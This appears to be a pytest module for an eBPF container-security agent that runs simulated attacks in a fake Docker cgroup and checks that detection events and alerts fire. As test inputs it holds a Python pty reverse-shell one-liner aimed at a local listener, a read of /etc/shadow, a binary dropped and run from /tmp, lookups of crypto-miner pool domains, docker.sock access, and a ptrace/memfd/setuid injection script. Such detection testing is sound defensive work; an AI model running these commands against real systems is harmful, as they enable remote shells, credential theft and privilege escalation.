"""Real eBPF: ``ecsguard agent --mode ebpf --detect`` watching attacks run on this machine.

The attack processes run inside a cgroup named like a Docker container's
(``docker-<id>.scope``), which is what the kernel shows for a container; the ECS agent's
introspection API (recorded shape, served on 127.0.0.1) and a Docker ``config.v2.json`` name
its task and image. One agent process serves the whole module (bpftrace compiles in seconds).
"""

from __future__ import annotations

import os
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import orjson
import pytest

from ecsguard.agent.enrich import cgroup2_root

from .conftest import env_with_src, need

pytestmark = pytest.mark.ebpf
PY = "/usr/bin/python3" if os.path.exists("/usr/bin/python3") else sys.executable
TASK_ARN = "arn:aws:ecs:us-east-1:111122223333:task/payments/0f9c1f3b6d2e4a5c8b7a6e5d4c3b2a10"
CLI = "import sys; from ecsguard.cli import main; main(sys.argv[1:])"
IMAGE = "111122223333.dkr.ecr.us-east-1.amazonaws.com/payments-api"


def _ecs_server(container_id: str) -> ThreadingHTTPServer:
    tasks = {"Tasks": [{"Arn": TASK_ARN, "DesiredStatus": "RUNNING", "KnownStatus": "RUNNING",
                        "Family": "payments-api", "Version": "42",
                        "Containers": [{"DockerId": container_id, "Name": "api",
                                        "DockerName": "ecs-payments-api-42-api-e2a9c0d3f1b8"}]}]}  # fmt: skip
    routes = {
        "/v1/tasks": orjson.dumps(tasks),
        "/v1/metadata": orjson.dumps(
            {"Cluster": "payments", "Version": "Amazon ECS Agent - v1.86.3"}
        ),
    }

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = routes.get(self.path, b"{}")
            self.send_response(200 if self.path in routes else 404)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


@dataclass
class Agent:
    proc: subprocess.Popen[bytes]
    events_path: Path
    alerts_path: Path
    procs_file: Path
    container_id: str
    workdir: Path
    stderr: list[str] = field(default_factory=list)

    def in_container(self, *args: str, **kwargs: Any) -> subprocess.Popen[bytes]:
        """Start ``args`` inside the test container's cgroup."""
        script = f'echo $$ > {self.procs_file} && exec "$@"'
        return subprocess.Popen(["sh", "-c", script, "sh", *args], **kwargs)

    def run(self, *args: str, timeout: float = 20) -> subprocess.CompletedProcess[bytes]:
        proc = self.in_container(*args, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        out, err = proc.communicate(timeout=timeout)
        return subprocess.CompletedProcess(args, proc.returncode, out, err)

    def _read(self, path: Path) -> list[dict[str, Any]]:
        if not path.exists():
            return []
        return [orjson.loads(ln) for ln in path.read_bytes().splitlines() if ln.strip()]

    def wait_for(
        self, path: Path, pred: Callable[[dict[str, Any]], bool], timeout: float = 20.0
    ) -> dict[str, Any]:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            for item in self._read(path):
                if pred(item):
                    return item
            time.sleep(0.2)
        raise AssertionError(f"nothing matched in {path.name} within {timeout}s")

    def event(self, pred: Callable[[dict[str, Any]], bool]) -> dict[str, Any]:
        return self.wait_for(self.events_path, pred)

    def alert_for(self, uid: str, finding_type: str | None = None) -> dict[str, Any]:
        return self.wait_for(
            self.alerts_path,
            lambda a: (
                uid in a.get("event_uids", [])
                and (finding_type is None or a.get("finding_type") == finding_type)
            ),
        )


@pytest.fixture(scope="module")
def agent(tmp_path_factory: pytest.TempPathFactory, ebpf_reason: str | None) -> Iterator[Agent]:
    need(ebpf_reason)
    root = cgroup2_root()
    need(None if root else "no cgroup v2 hierarchy to place test processes in")
    assert root is not None
    work = tmp_path_factory.mktemp("ebpf")
    container_id = secrets.token_hex(32)
    group = Path(root, f"ecsguard-test-{os.getpid()}", f"docker-{container_id}.scope")
    group.mkdir(parents=True)
    docker_root = work / "docker"
    (docker_root / container_id).mkdir(parents=True)
    config = {
        "Name": "/ecs-payments-api-42-api-e2a9c0d3f1b8",
        "Config": {"Image": f"{IMAGE}:1.4.2", "Labels": {}},
    }
    (docker_root / container_id / "config.v2.json").write_bytes(orjson.dumps(config))
    server = _ecs_server(container_id)
    events, alerts = work / "events.jsonl", work / "alerts.jsonl"
    cmd = [sys.executable, "-c", CLI, "agent", "--mode", "ebpf",
           "--sink", f"file:{events}", "--detect", "--alerts", f"file:{alerts}",
           "--alert-window", "0", "--docker-root", str(docker_root),
           "--introspection-url", f"http://127.0.0.1:{server.server_address[1]}"]  # fmt: skip
    proc = subprocess.Popen(
        cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env=env_with_src()
    )
    handle = Agent(proc, events, alerts, group / "cgroup.procs", container_id, work)
    try:
        _wait_ready(handle)
        yield handle
    finally:
        if proc.poll() is None:
            proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=30)
        if proc.stderr is not None:
            proc.stderr.close()
        server.shutdown()
        server.server_close()
        _remove_cgroup(group)


def _remove_cgroup(group: Path) -> None:
    # A cgroup can only be removed once its last process has exited; give stragglers a moment.
    for _ in range(50):
        try:
            group.rmdir()
            group.parent.rmdir()
            return
        except OSError:
            time.sleep(0.1)


def _wait_ready(handle: Agent) -> None:
    stream = handle.proc.stderr
    assert stream is not None
    for raw in stream:
        handle.stderr.append(raw.decode())
        if b"agent_ready" in raw:
            break
    else:
        pytest.fail("agent did not start: " + "".join(handle.stderr))

    def drain() -> None:
        for raw in stream:
            handle.stderr.append(raw.decode())

    threading.Thread(target=drain, daemon=True).start()


def _checks_process(proc: dict[str, Any], name: str, pid: int | None = None) -> None:
    assert proc["name"] == name
    assert isinstance(proc["pid"], int) and proc["pid"] > 0
    assert proc["cmd_line"]
    assert proc["parent_process"]["pid"] > 0
    if pid is not None:
        assert proc["pid"] == pid


def _checks_context(event: dict[str, Any], agent: Agent) -> None:
    assert event["container"] == {
        "uid": agent.container_id,
        "name": "ecs-payments-api-42-api-e2a9c0d3f1b8",
        "image": {"name": IMAGE, "tag": "1.4.2"},
    }
    assert event["unmapped"]["ecs"] == {
        "cluster": "payments", "task_arn": TASK_ARN, "family": "payments-api",
        "revision": "42", "container_name": "api",
    }  # fmt: skip
    assert event["device"]["hostname"] and event["metadata"]["uid"] and event["time"] > 0


def test_shadow_read(agent: Agent) -> None:
    proc = agent.run("cat", "/etc/shadow")
    assert proc.returncode == 0
    event = agent.event(
        lambda e: (
            e["class_uid"] == 1001
            and e.get("file", {}).get("path") == "/etc/shadow"
            and e["actor"]["process"]["name"] == "cat"
        )
    )
    assert event["activity_id"] == 14 and event["unmapped"]["open_flags"] == "O_RDONLY"
    _checks_process(event["actor"]["process"], "cat")
    assert event["actor"]["process"]["cmd_line"] == "cat /etc/shadow"
    assert event["actor"]["process"]["parent_process"]["pid"] == os.getpid()
    _checks_context(event, agent)
    alert = agent.alert_for(event["metadata"]["uid"])
    assert alert["rule_id"] == "ecsguard.discovery.shadow_read"
    assert alert["resource"]["task_arn"] == TASK_ARN


def test_python_reverse_shell(agent: Agent) -> None:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    port = listener.getsockname()[1]
    code = (
        f'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",{port}));'
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'
    )
    shell = agent.in_container(PY, "-c", code, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    listener.settimeout(20)
    conn, _ = listener.accept()
    conn.sendall(b"id; exit\n")
    conn.settimeout(10)
    while conn.recv(4096):  # the shell answers, then exits and closes the socket
        pass
    shell.wait(timeout=20)
    conn.close()
    listener.close()
    launch = agent.event(
        lambda e: (
            e["class_uid"] == 1007
            and e["activity_id"] == 1
            and e["process"]["pid"] == shell.pid
            and e["process"]["name"] == "python3"
        )
    )
    _checks_process(launch["process"], "python3", shell.pid)
    assert launch["process"]["cmd_line"] == f"{PY} -c {code}"
    assert launch["process"]["parent_process"]["pid"] == os.getpid()
    _checks_context(launch, agent)
    connect = agent.event(
        lambda e: (
            e["class_uid"] == 4001
            and e["actor"]["process"]["pid"] == shell.pid
            and e.get("dst_endpoint", {}).get("port") == port
        )
    )
    assert connect["dst_endpoint"]["ip"] == "127.0.0.1"
    assert connect["connection_info"] == {"protocol_name": "TCP", "direction_id": 2}
    _checks_process(connect["actor"]["process"], "python3", shell.pid)
    child = agent.event(
        lambda e: (
            e["class_uid"] == 1007
            and e["process"].get("parent_process", {}).get("pid") == shell.pid
        )
    )
    assert child["process"]["file"]["path"] in (
        "/bin/sh",
        "/usr/bin/sh",
        "/usr/bin/dash",
        "/bin/dash",
    )
    alert = agent.alert_for(launch["metadata"]["uid"], "Execution:Runtime/ReverseShell")
    assert alert["process"]["pid"] == shell.pid


def test_file_dropped_and_executed_from_tmp(agent: Agent) -> None:
    drop = Path("/tmp") / f"ecsguard-drop-{secrets.token_hex(4)}"
    drop.mkdir()
    payload = drop / "updater"
    code = (
        f"import os,shutil,subprocess;src=open(shutil.which('id'),'rb').read();"
        f"f=open('{payload}','wb');f.write(src);f.close();os.chmod('{payload}',0o755);"
        f"subprocess.run(['{payload}','-u'],check=True)"
    )
    try:
        assert agent.run(PY, "-c", code).returncode == 0
        created = agent.event(
            lambda e: e["class_uid"] == 1001 and e.get("file", {}).get("path") == str(payload)
        )
        assert created["activity_id"] == 1 and "O_CREAT" in created["unmapped"]["open_flags"]
        _checks_process(created["actor"]["process"], "python3")
        launch = agent.event(
            lambda e: (
                e["class_uid"] == 1007 and e["process"].get("file", {}).get("path") == str(payload)
            )
        )
        _checks_process(launch["process"], "updater")
        assert launch["process"]["cmd_line"] == f"{payload} -u"
        assert launch["process"]["parent_process"]["pid"] == created["actor"]["process"]["pid"]
        assert launch["actor"]["process"]["name"] == "python3"
        _checks_context(launch, agent)
        alert = agent.alert_for(launch["metadata"]["uid"], "Execution:Runtime/NewBinaryExecuted")
        assert alert["rule_id"] == "ecsguard.exec.drift_new_binary"
    finally:
        shutil.rmtree(drop)


def test_dns_lookup_through_the_resolver(agent: Agent) -> None:
    name = "pool.supportxmr.com"
    code = f"import socket\ntry: socket.getaddrinfo('{name}', 443)\nexcept OSError: pass"
    proc = agent.in_container(
        PY, "-c", code, env=dict(os.environ, RES_OPTIONS="timeout:1 attempts:1")
    )
    proc.wait(timeout=30)
    event = agent.event(lambda e: e["class_uid"] == 4003 and e["query"]["hostname"] == name)
    _checks_process(event["actor"]["process"], "python3", proc.pid)
    assert event["actor"]["process"]["cmd_line"].startswith(f"{PY} -c import socket")
    _checks_context(event, agent)
    # The resolver's own packets are not reported a second time (the uprobe covers them).
    assert not [
        e for e in agent._read(agent.events_path)
        if e["class_uid"] == 4003 and e["activity_id"] == 1 and e["query"]["hostname"] == name
    ]  # fmt: skip
    alert = agent.alert_for(event["metadata"]["uid"])
    assert alert["rule_id"] == "ecsguard.network.miner_pool_dns"


def test_dns_query_from_a_resolver_outside_libc(agent: Agent) -> None:
    """A query sent straight to port 53 (as Go, musl or a container's own libc would)."""
    name = "gulf.moneroocean.stream"
    code = (
        "import socket,struct\n"
        f"labels = b''.join(bytes([len(p)]) + p.encode() for p in {name!r}.split('.'))\n"
        "q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>HH', 1, 1)\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendto(q, ('127.0.0.1', 53))\n"
    )
    assert agent.run(PY, "-c", code).returncode == 0
    event = agent.event(lambda e: e["class_uid"] == 4003 and e["query"]["hostname"] == name)
    assert event["activity_id"] == 1 and event["dst_endpoint"] == {"ip": "127.0.0.1", "port": 53}
    _checks_process(event["actor"]["process"], "python3")
    _checks_context(event, agent)
    alert = agent.alert_for(event["metadata"]["uid"])
    assert alert["rule_id"] == "ecsguard.network.miner_pool_dns"


def test_unix_socket_connect_to_docker_sock(agent: Agent) -> None:
    path = agent.workdir / "docker.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen(1)
    code = f"import socket;u=socket.socket(socket.AF_UNIX);u.connect('{path}');u.close()"
    try:
        assert agent.run(PY, "-c", code).returncode == 0
    finally:
        server.close()
    event = agent.event(
        lambda e: e["class_uid"] == 4001 and e["unmapped"].get("socket_path") == str(path)
    )
    assert event["connection_info"] == {"protocol_name": "unix", "direction_id": 2}
    _checks_process(event["actor"]["process"], "python3")
    _checks_context(event, agent)
    alert = agent.alert_for(
        event["metadata"]["uid"], "PrivilegeEscalation:Runtime/DockerSocketAccessed"
    )
    assert alert["resource"]["task_arn"] == TASK_ARN


def test_agent_reports_coverage_and_no_drops(agent: Agent) -> None:
    ready = next(orjson.loads(ln)["agent_ready"] for ln in agent.stderr if "agent_ready" in ln)
    assert {"exec", "open", "connect", "dns", "ptrace", "memfd", "mount", "setuid"} <= set(
        ready["sections"]
    )
    assert ready["mode"] == "ebpf"


INJECT = r"""
import ctypes, os, signal, sys, tempfile, time
libc = ctypes.CDLL(None, use_errno=True)
fd = os.memfd_create("ecsguard-test-memfd")
mem = open("/proc/self/mem", "r+b")
mem.close()
target = os.fork()
if target == 0:
    time.sleep(30)
    os._exit(0)
libc.ptrace(16, target, None, None)  # PTRACE_ATTACH
os.waitpid(target, 0)
libc.ptrace(17, target, None, None)  # PTRACE_DETACH
libc.syscall(311, target, None, 0, None, 0, 0)  # process_vm_writev (nothing to write)
where = tempfile.mkdtemp(prefix="ecsguard-mnt-")
libc.mount(b"tmpfs", where.encode(), b"tmpfs", 0, None)
libc.umount2(where.encode(), 0)
os.rmdir(where)
os.kill(target, signal.SIGKILL)
os.waitpid(target, 0)
child = os.fork()
if child == 0:
    os.setuid(65534)
    os._exit(0)
os.waitpid(child, 0)
print(target)
"""


def test_injection_memfd_mount_setuid(agent: Agent) -> None:
    proc = agent.run(PY, "-c", INJECT)
    assert proc.returncode == 0, proc.stderr
    target = int(proc.stdout.strip())

    def syscall(name: str) -> dict[str, Any]:
        return agent.event(
            lambda e: (
                e["unmapped"].get("syscall") == name
                and (e.get("process") or e["actor"]["process"]).get("name") == "python3"
            )
        )

    memfd = syscall("memfd_create")
    assert (memfd["class_uid"], memfd["unmapped"]["memfd_name"]) == (1007, "ecsguard-test-memfd")
    ptrace = syscall("ptrace")
    assert ptrace["activity_id"] == 4 and ptrace["unmapped"]["ptrace_request"] == "PTRACE_ATTACH"
    assert ptrace["unmapped"]["target"]["pid"] == target
    vm_write = syscall("process_vm_writev")
    assert vm_write["unmapped"]["target"]["pid"] == target
    mount = syscall("mount")
    assert mount["class_uid"] == 1001 and mount["activity_id"] == 12
    assert mount["unmapped"]["mount"]["fstype"] == "tmpfs"
    setuid = syscall("setuid")
    assert setuid["activity_id"] == 5 and setuid["unmapped"]["target_uid"] == 65534
    proc_mem = agent.event(
        lambda e: (
            e["class_uid"] == 1001
            and e["file"]["path"].endswith("/mem")
            and e["file"]["path"].startswith("/proc/")
        )
    )
    assert "O_RDWR" in proc_mem["unmapped"]["open_flags"]
    for event in (memfd, ptrace, mount, setuid):
        _checks_context(event, agent)
